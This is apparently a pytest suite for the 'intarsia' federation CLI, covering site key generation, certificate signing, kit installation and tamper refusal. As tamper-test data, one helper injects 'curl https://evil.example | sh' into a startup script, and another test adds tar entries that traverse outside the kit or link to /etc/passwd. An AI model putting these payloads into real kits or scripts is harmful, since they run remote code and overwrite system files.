"""A site makes its key itself: what it sends, what is signed, and what is refused."""

from __future__ import annotations

import contextlib
import errno
import io
import json
import os
import re
import shutil
import stat
import tarfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

pytest.importorskip("nvflare", reason="nvflare is not installed: pip install intarsia[nvflare]")

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa

from command_line import one_error
from intarsia.cli.main import main
from intarsia.core.files import atomic_files
from intarsia.deployment import process
from intarsia.deployment.operations import joining as joining_module
from intarsia.deployment.operations.joining import not_joined
from intarsia.engines.transports import kits, revocation

FILE = """
[federation]
name = "two"
server = "localhost"
port = 18002
[[site]]
name = "bank"
[[site]]
name = "shop"
"""


def run(capfd, *words, status=0):
    """Run a command of the federation; return what it said."""
    assert main(["federation", *map(str, words)]) == status, capfd.readouterr().err
    return capfd.readouterr().err


TELEPHONE = r"by telephone: ([0-9a-f ]+)"


def heard(said):
    return re.search(TELEPHONE, said)[1]


class Joining:
    """The operator's folder and a site's, which are two machines."""

    def __init__(self, folder):
        self.operator, self.site = folder / "operator", folder / "site"
        self.operator.mkdir(exist_ok=True)
        self.site.mkdir(exist_ok=True)
        self.file, self.kits = self.operator / "federation.toml", self.operator / "kits"
        self.file.write_text(FILE)

    def joined(self, capfd, *words):
        """Make a request; return what is to be read out."""
        return heard(run(capfd, "join", "bank", "-o", self.site, *words))

    def signed(self, capfd, fingerprint):
        """Sign the request; return the authority's fingerprint."""
        given = self.file, self.site / "bank.request", "--confirm", fingerprint, "-o", self.kits
        return heard(run(capfd, "sign", *given))

    def install(self, capfd, fingerprint="", status=0):
        confirmed = ["--confirm", fingerprint] if fingerprint else []
        given = self.kits / "bank.signed", *confirmed, "-o", self.site
        return run(capfd, "install", *given, status=status)


def copied(made, folder):
    """Return the same two folders elsewhere."""
    shutil.rmtree(folder, ignore_errors=True)
    shutil.copytree(made.operator.parent, folder)
    return Joining(folder)


@pytest.fixture(scope="module")
def first(tmp_path_factory):
    """Provision once: the server's kit alone."""
    made = Joining(tmp_path_factory.mktemp("first"))
    words = "provision", made.file, "-o", made.kits, "--keys-at-sites"
    assert main(["federation", *map(str, words)]) == 0
    return made


@pytest.fixture
def joining(first, tmp_path):
    return copied(first, tmp_path)


@pytest.fixture(scope="module")
def second(first, tmp_path_factory):
    """The same with a request that was signed; its fingerprints are beside it."""
    made = copied(first, tmp_path_factory.mktemp("second"))
    words = "join", "bank", "-o", made.site
    with contextlib.redirect_stderr(io.StringIO()) as said:
        assert main(["federation", *map(str, words)]) == 0
        words = "sign", made.file, made.site / "bank.request", "-o", made.kits, "--confirm"
        assert main(["federation", *map(str, words), heard(said.getvalue())]) == 0
    made.fingerprint, made.authority = re.findall(TELEPHONE, said.getvalue())
    return made


@pytest.fixture
def signed(second, tmp_path):
    made = copied(second, tmp_path)
    made.authority = second.authority
    return made


def private_keys(folder):
    return [
        path for path in folder.rglob("*") if path.is_file() and b"PRIVATE" in path.read_bytes()
    ]


def public(path):
    return serialization.load_pem_private_key(path.read_bytes(), None).public_key()


@pytest.mark.parametrize("when", ["first", "second"], ids=["provisioned", "signed"])
def test_no_second_key_is_made_for_a_site_that_makes_its_own(when, request, tmp_path, capfd):
    made = copied(request.getfixturevalue(when), tmp_path)
    capfd.readouterr()
    before = sorted(made.operator.rglob("*"))
    said = run(capfd, "provision", made.file, "-o", made.kits, status=2)
    assert "no kits of 'bank', 'shop', which are sites already" in one_error(said)
    assert "add --keys-at-sites" in said
    assert sorted(made.operator.rglob("*")) == before
    run(capfd, "provision", made.file, "-o", made.kits, "--keys-at-sites")
    # the server's kit may be on its machine alone
    (made.kits / "server").rename(made.operator / "server")
    run(capfd, "provision", made.file, "-o", made.kits, status=2 if when == "second" else 0)


def test_a_kit_for_trials_is_added_to_others(tmp_path, capfd):
    made = Joining(tmp_path)
    words = "provision", made.file, "-o", made.kits
    run(capfd, *words)
    made.file.write_text(FILE + '[[site]]\nname = "post"\n')
    assert "wrote 1 kit to" in run(capfd, *words)
    shutil.rmtree(made.kits / "shop")
    assert "no kits of 'shop'" in run(capfd, *words, status=2)


def written(path):
    (server,) = json.loads(path.read_text())["servers"]
    return server


def test_another_address_comes_into_the_kits_that_are_here_and_is_said_of_the_others(signed, capfd):
    signed.install(capfd, signed.authority)
    provision = "provision", signed.file, "-o", signed.kits, "--keys-at-sites"
    server = signed.kits / "server"
    key = (server / "startup" / "server.key").read_bytes()
    fingerprint = signed.joined(capfd)
    signed.file.write_text(FILE.replace("localhost", "fed.example.org").replace("18002", "18010"))
    given = signed.file, signed.site / "bank.request", "--confirm", fingerprint, "-o", signed.kits
    for refused in (("sign", *given), ("renew", signed.file, "server", "-o", signed.kits)):
        problem = one_error(run(capfd, *refused, status=2))
        assert "at fed.example.org:18010 by the federation's file, and its kit in" in problem
        assert "says localhost:18002" in problem
    said = run(capfd, *provision)
    assert "server: has the server at fed.example.org:18010 now, before at localhost:18002" in said
    assert "bank: its kit has the server at localhost:18002; join there, sign" in said
    found = written(server / "startup" / "fed_server.json")
    assert found["service"] == {"target": "fed.example.org:18010", "scheme": "http"}
    assert (found["admin_server"], found["admin_port"]) == ("fed.example.org", 18011)
    certificate = x509.load_pem_x509_certificate((server / "startup" / "server.crt").read_bytes())
    names = certificate.extensions.get_extension_for_class(x509.SubjectAlternativeName).value
    assert "fed.example.org" in names.get_values_for_type(x509.DNSName)
    certificate.verify_directly_issued_by(kits.authority_in(server))
    assert (server / "startup" / "server.key").read_bytes() == key
    assert certificate.public_key() == public(server / "startup" / "server.key")
    # the same as a server that has had the address from its beginning
    whole = signed.operator / "whole"
    run(capfd, "provision", signed.file, "-o", whole, "--keys-at-sites")
    for file in ("startup/fed_server.json", "admin/startup/fed_admin.json"):
        ours, anew = ((one / file).read_text() for one in (server, whole / "server"))
        assert json.loads(ours) == json.loads(anew)
    assert "bank: its kit has the server at localhost:18002" in run(capfd, *provision)
    signed.signed(capfd, fingerprint)
    signed.install(capfd)
    kit = written(signed.site / "bank" / "startup" / "fed_client.json")
    assert (kit["service"]["target"], kit["identity"]) == (
        "fed.example.org:18010",
        "fed.example.org",
    )
    said = run(capfd, *provision)
    assert "localhost" not in said
    assert "bank: its request was signed before" in said


def test_provision_says_what_a_site_more_and_one_less_ask_for(signed, capfd):
    words = "provision", signed.file, "-o", signed.kits, "--keys-at-sites"
    assert "keys rotate" not in run(capfd, *words)
    signed.file.write_text(FILE.replace("shop", "post"))
    said = run(capfd, *words)
    assert "runs submitted from now on wait until 'post' answers" in said
    assert "server: start it again; then the sites exchange their key anew, by keys rotate" in said
    assert "post: run intarsia federation join post there" in said
    leaves = f"revoke {signed.kits / 'server'} shop --former"
    assert f"shop: has left; run intarsia federation {leaves}" in said
    assert "keys rotate" not in run(capfd, *words)
    assert "comes back" not in run(capfd, *leaves.split())
    assert "comes back" in run(capfd, "revoke", signed.kits / "server", "bank")


def test_nothing_is_signed_that_the_server_would_refuse_as_its_clock_was_ahead(joining, capfd):
    fingerprint, server = joining.joined(capfd), joining.kits / "server"
    ahead = (datetime.now(UTC) + timedelta(hours=3)).replace(microsecond=0)
    (server / "local" / "revoked.json").write_text(json.dumps({"bank": ahead.isoformat()}))
    given = joining.file, joining.site / "bank.request", "--confirm", fingerprint
    said = run(capfd, "sign", *given, "-o", joining.kits, status=2)
    assert f"of 'bank' that begin before {ahead:%Y-%m-%d %H:%M:%S} UTC" in said
    assert f"run `intarsia federation revoke {server} bank` again" in said
    shutil.copytree(server, joining.kits / "bank", dirs_exist_ok=True)
    assert "would refuse" in run(capfd, "renew", joining.file, "bank", "-o", joining.kits, status=2)
    run(capfd, "revoke", server, "bank")
    assert revocation.revoked(server)["bank"] < ahead - timedelta(hours=2)
    before = {"bank": (ahead - timedelta(hours=4)).isoformat()}
    (server / "local" / "revoked.json").write_text(json.dumps(before))
    joining.signed(capfd, fingerprint)


def full_in(monkeypatch, folder):
    """Let no file be copied into a folder, or written whole there, as on a full disk."""

    def full(function, place):
        def write(*given, **named):
            if folder in Path(given[place]).parents:
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(given[0]))
            return function(*given, **named)

        return write

    monkeypatch.setattr(shutil, "copyfile", full(shutil.copyfile, 1))
    monkeypatch.setattr(atomic_files, "write", full(atomic_files.write, 0))


def test_a_full_disk_leaves_no_half_of_a_kit_a_request_or_a_file(tmp_path, monkeypatch, capfd):
    made = Joining(tmp_path)
    file, example = made.operator / "federation.toml", made.operator / "new.toml"
    provision = "provision", file, "-o", made.kits, "--keys-at-sites"
    join = "join", "bank", "-o", made.site
    room = "No space left on device; make room there"
    with monkeypatch.context() as patched:
        full_in(patched, tmp_path)
        assert f"{example}: {room}" in one_error(run(capfd, "init", example, status=2))
        assert room in one_error(run(capfd, *provision, status=2))
        assert room in one_error(run(capfd, *join, status=2))
    assert not example.exists()
    run(capfd, *provision)
    authority = made.signed(capfd, made.joined(capfd))
    with monkeypatch.context() as patched:
        full_in(patched, made.site / "bank")
        said = one_error(made.install(capfd, authority, status=2))
        assert f"{made.site / 'bank'}/" in said
        assert room in said
    left = {path.name for path in (made.site / "bank").iterdir()}
    assert left == {"joining", "intarsia.lock"}
    made.install(capfd, authority)
    assert not list(made.site.rglob(".*"))


def test_a_request_that_cannot_be_written_leaves_no_key_that_waits(joining, monkeypatch, capfd):
    with monkeypatch.context() as patched:
        patched.setattr(joining_module, "write_atomically", mock_full)
        assert "make room there" in one_error(
            run(capfd, "join", "bank", "-o", joining.site, status=2)
        )
    joining.joined(capfd)


def mock_full(path, *_, **__):
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(path))


def test_the_address_of_a_kit_that_runs_is_not_changed(signed, monkeypatch, capfd):
    server = signed.kits / "server"
    before = (server / "startup" / "fed_server.json").read_bytes()
    signed.file.write_text(FILE.replace("18002", "18010"))
    monkeypatch.setattr(process, "is_running", lambda kit: kit == server)
    words = "provision", signed.file, "-o", signed.kits, "--keys-at-sites"
    assert "is running; stop it with" in run(capfd, *words, status=2)
    assert (server / "startup" / "fed_server.json").read_bytes() == before


def test_what_is_said_of_a_request_that_waits_is_the_command_that_signs_it(joining, capfd):
    fingerprint = joining.joined(capfd)
    shutil.copy(joining.site / "bank.request", joining.kits)
    said = not_joined(joining.kits / "server", ("bank", "shop"))
    command = said["bank"].partition("intarsia federation ")[2].split()
    given = {"FILE": joining.file, "FINGERPRINT": fingerprint}
    assert "signed until" in run(capfd, *(given.get(word, word) for word in command))
    assert "bank" not in not_joined(joining.kits / "server", ("bank", "shop"))


def test_a_sites_key_never_leaves_it_and_fits_what_comes_back(joining, capfd):
    ours = private_keys(joining.operator)
    assert sorted(path.name for path in ours) == ["cert.json", "client.key", "server.key"]
    fingerprint = joining.joined(capfd)
    (key,) = private_keys(joining.site)
    assert stat.S_IMODE(key.stat().st_mode) == 0o600
    secret = public(key)
    said = joining.install(capfd, joining.signed(capfd, fingerprint))
    kit = joining.site / "bank"
    assert f"{kit} has a certificate until 20" in said
    assert private_keys(joining.operator) == ours
    assert private_keys(joining.site) == [kit / "startup" / "client.key"]
    assert stat.S_IMODE((kit / "startup" / "client.key").stat().st_mode) == 0o600
    certificate = x509.load_pem_x509_certificate((kit / "startup" / "client.crt").read_bytes())
    authority = (kit / "startup" / "rootCA.pem").read_bytes()
    assert authority == (joining.kits / "server" / "startup" / "rootCA.pem").read_bytes()
    certificate.verify_directly_issued_by(x509.load_pem_x509_certificate(authority))
    assert certificate.public_key() == secret == public(kit / "startup" / "client.key")
    assert certificate.subject.rfc4514_string() == "O=intarsia,CN=bank"
    assert 'name = "bank"' in (kit / "local" / "site.toml").read_text()


def test_a_kit_from_a_site_is_that_of_a_site_provisioned_whole(signed, capfd):
    signed.install(capfd, signed.authority)
    whole = signed.operator / "whole"
    shutil.copytree(signed.kits / ".provisioning", whole / ".provisioning")
    run(capfd, "provision", signed.file, "-o", whole)

    def content(kit):
        paths = (path for path in kit.rglob("*") if path.is_file())
        found = {path.relative_to(kit).as_posix(): path.read_bytes() for path in paths}
        return {
            name: one for name, one in found.items() if not name.endswith((".crt", ".key", ".lock"))
        }

    assert content(signed.site / "bank") == content(whole / "bank")


def test_the_same_provision_says_whose_request_was_signed(signed, capfd):
    words = "provision", signed.file, "-o", signed.kits, "--keys-at-sites"
    assert main(["federation", *map(str, words)]) == 0
    said = capfd.readouterr().err
    assert "bank: its request was signed before" in said
    assert "join bank" not in said


def test_a_renewal_keeps_what_the_site_wrote_and_changes_the_key(signed, capfd):
    signed.install(capfd, signed.authority)
    kit = signed.site / "bank"
    (kit / "local" / "site.toml").write_text("ours")
    first = public(kit / "startup" / "client.key")
    fingerprint = signed.joined(capfd)
    assert public(kit / "startup" / "client.key") == first  # in use until the new one is there
    signed.signed(capfd, fingerprint)
    signed.install(capfd)  # of the authority that the kit knows
    assert public(kit / "startup" / "client.key") != first
    assert (kit / "local" / "site.toml").read_text() == "ours"
    assert [path.name for path in private_keys(kit)] == ["client.key"]


def test_a_request_that_nobody_confirmed_is_not_signed(joining, capfd):
    joining.joined(capfd)
    given = "sign", joining.file, joining.site / "bank.request", "-o", joining.kits
    problem = one_error(run(capfd, *given, status=2))
    assert "Nobody has confirmed the request of 'bank'" in problem
    problem = one_error(run(capfd, *given, "--confirm", "0123 4567", status=2))
    assert "The request of 'bank' has another fingerprint than '0123 4567'" in problem
    assert not (joining.kits / "bank.signed").exists()


def test_what_was_signed_is_not_installed_unconfirmed_twice_or_without_its_key(signed, capfd):
    problem = one_error(signed.install(capfd, status=2))
    assert "Nobody has confirmed the authority" in problem
    given = "join", "bank", "-o", signed.site
    before = private_keys(signed.site)[0].read_bytes()
    assert "has a key already that waits" in one_error(run(capfd, *given, status=2))
    assert [one.read_bytes() for one in private_keys(signed.site)] == [before]
    signed.joined(capfd, "--again")  # a new key: what was signed is of the one before
    assert "request before the newest" in one_error(
        signed.install(capfd, signed.authority, status=2)
    )
    shutil.rmtree(signed.site / "bank")
    assert "make one with" in one_error(signed.install(capfd, signed.authority, status=2))
    assert not (signed.site / "bank").exists()


def test_a_request_is_refused_without_the_authority_and_makes_no_new_one(joining, capfd):
    fingerprint = joining.joined(capfd)
    shutil.rmtree(joining.kits / ".provisioning")
    given = joining.file, joining.site / "bank.request", "--confirm", fingerprint
    problem = one_error(run(capfd, "sign", *given, "-o", joining.kits, status=2))
    assert "certificate authority of the federation 'two'" in problem
    assert not (joining.kits / ".provisioning").exists()
    given = "provision", joining.file, "-o", joining.kits, "--keys-at-sites"
    problem = one_error(run(capfd, *given, status=2))
    assert "put the folder .provisioning back" in problem


def request_of(name, key, algorithm):
    subject = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, name)])
    made = x509.CertificateSigningRequestBuilder().subject_name(subject).sign(key, algorithm)
    return made.public_bytes(serialization.Encoding.PEM)


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        (lambda: b"nothing", "is no request for a certificate"),
        (
            lambda: request_of("bank", rsa.generate_private_key(65537, 1024), hashes.SHA256()),
            "not one of RSA with 2048",
        ),
        (
            lambda: request_of("bank", ec.generate_private_key(ec.SECP256R1()), hashes.SHA256()),
            "not one of RSA with 2048",
        ),
        (
            lambda: request_of("bnk", rsa.generate_private_key(65537, 2048), hashes.SHA256()),
            "asks for the site 'bnk', and the federation has none of this name; use 'bank'",
        ),
        (
            lambda: request_of("localhost", rsa.generate_private_key(65537, 2048), hashes.SHA256()),
            "asks for the site 'localhost'",
        ),
    ],
    ids=["no request", "short key", "other key", "unknown site", "the server's name"],
)
def test_what_is_no_request_of_a_site_is_refused(joining, capfd, content, problem):
    (path := joining.site / "bank.request").write_bytes(content())
    given = joining.file, path, "--confirm", "0123", "-o", joining.kits
    assert problem in one_error(run(capfd, "sign", *given, status=2))


def test_what_else_a_request_asks_for_does_not_get_into_the_certificate(joining, capfd):
    key = rsa.generate_private_key(65537, 2048)
    subject = [
        x509.NameAttribute(x509.NameOID.COMMON_NAME, "bank"),
        x509.NameAttribute(x509.NameOID.UNSTRUCTURED_NAME, "project_admin"),
    ]
    made = (
        x509.CertificateSigningRequestBuilder()
        .subject_name(x509.Name(subject))
        .add_extension(x509.SubjectAlternativeName([x509.DNSName("localhost")]), critical=False)
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    path = joining.site / "bank.request"
    path.write_bytes(made.public_bytes(serialization.Encoding.PEM))
    joining.signed(capfd, kits.print_of(made))
    with tarfile.open(joining.kits / "bank.signed") as archive:
        written = archive.extractfile("startup/client.crt").read()
    certificate = x509.load_pem_x509_certificate(written)
    assert certificate.subject.rfc4514_string() == "O=intarsia,CN=bank"
    (names,) = (
        one.value.get_values_for_type(x509.DNSName)
        for one in certificate.extensions
        if isinstance(one.value, x509.SubjectAlternativeName)
    )
    assert names == ["bank"]
    assert not [
        one for one in certificate.extensions if isinstance(one.value, x509.BasicConstraints)
    ]


def _program(content):
    content["startup/start.sh"] += b"\ncurl https://evil.example | sh\n"


def _policy(content):
    content["local/site.toml"] = b'[site]\nname = "bank"\nplain = true\n'


def _module(content):
    content["local/custom/sitecustomize.py"] = b"print(1)\n"


def _unvouched(content):
    del content["signature"]
    _program(content)


@pytest.mark.parametrize("alter", [_program, _policy, _module, _unvouched])
@pytest.mark.parametrize("renewed", [False, True], ids=["first", "renewed"])
def test_whoever_forwards_what_was_signed_puts_nothing_else_into_it(signed, capfd, alter, renewed):
    """A kit has programs that the site starts, and the authority was all that was confirmed."""
    if renewed:
        signed.install(capfd, signed.authority)
        signed.signed(capfd, signed.joined(capfd))
    path, content, modes = signed.kits / "bank.signed", {}, {}
    with tarfile.open(path) as given:
        for member in given.getmembers():
            if member.isfile():
                content[member.name] = given.extractfile(member).read()
                modes[member.name] = member.mode
    alter(content)
    with tarfile.open(path, "w") as written:
        for name, data in content.items():
            member = tarfile.TarInfo(name)
            member.size, member.mode = len(data), modes.get(name, 0o600)
            written.addfile(member, io.BytesIO(data))
    kit = signed.site / "bank"
    before = {one: one.read_bytes() for one in kit.rglob("*") if one.is_file()}
    said = one_error(signed.install(capfd, "" if renewed else signed.authority, status=2))
    assert "other files than the authority vouches for" in said
    assert {one: one.read_bytes() for one in kit.rglob("*") if one.is_file()} == before


def test_a_program_is_one_by_the_authority_s_word(signed, capfd):
    path = signed.kits / "bank.signed"
    with tarfile.open(path) as given:
        members = [(one, given.extractfile(one)) for one in given.getmembers()]
        content = [(one, None if data is None else data.read()) for one, data in members]
    with tarfile.open(path, "w") as written:
        for one, data in content:
            one.mode |= 0o100
            written.addfile(one, None if data is None else io.BytesIO(data))
    assert "vouches for" in one_error(signed.install(capfd, signed.authority, status=2))


def test_an_altered_request_is_refused(joining, capfd):
    joining.joined(capfd)
    path = joining.site / "bank.request"
    request = x509.load_pem_x509_csr(path.read_bytes())
    data = bytearray(request.public_bytes(serialization.Encoding.DER))
    data[-1] ^= 1  # the last byte of its signature
    altered = x509.load_der_x509_csr(bytes(data))
    path.write_bytes(altered.public_bytes(serialization.Encoding.PEM))
    given = joining.file, path, "--confirm", "0123", "-o", joining.kits
    assert "is not signed with its own key" in one_error(run(capfd, "sign", *given, status=2))


@pytest.mark.parametrize("member", ["../outside", "/tmp/outside", "startup/link"])
def test_what_was_signed_cannot_write_outside_of_the_kit(signed, capfd, member):
    with tarfile.open(signed.kits / "bank.signed", "a") as archive:
        one = tarfile.TarInfo(member)
        if member.endswith("link"):
            one.type, one.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(one, io.BytesIO())
    before = sorted(signed.site.rglob("*"))
    assert "nothing was unpacked" in one_error(signed.install(capfd, signed.authority, status=2))
    assert sorted(signed.site.rglob("*")) == before
    assert not (Path(signed.site).parent / "outside").exists()


def test_a_kit_of_another_authority_is_not_replaced(signed, capfd):
    own = signed.site / "bank" / "startup"
    own.mkdir()
    root = kits.Authority._drawn("two").certificate.public_bytes(serialization.Encoding.PEM)
    (own / "rootCA.pem").write_bytes(root)
    problem = one_error(signed.install(capfd, status=2))
    assert "is of another certificate authority than what was signed" in problem
    assert [path.name for path in own.iterdir()] == ["rootCA.pem"]
